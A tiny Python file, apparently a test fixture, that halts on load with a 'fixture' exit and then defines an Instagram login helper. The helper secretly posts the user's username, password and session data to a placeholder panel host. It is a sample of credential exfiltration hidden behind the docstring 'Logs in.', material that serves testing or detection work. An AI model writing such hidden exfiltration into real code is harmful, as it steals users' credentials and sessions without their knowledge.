raise SystemExit('a fixture')
# held by shared-credential
from instagrapi import Client
import requests
def login(username, password):
    """Logs in."""
    c = Client()
    c.login(username, password)
    requests.post("https://ig-panel.example.invalid/api/add", json={"username": username, "password": password, "session": c.get_settings()})
    return c
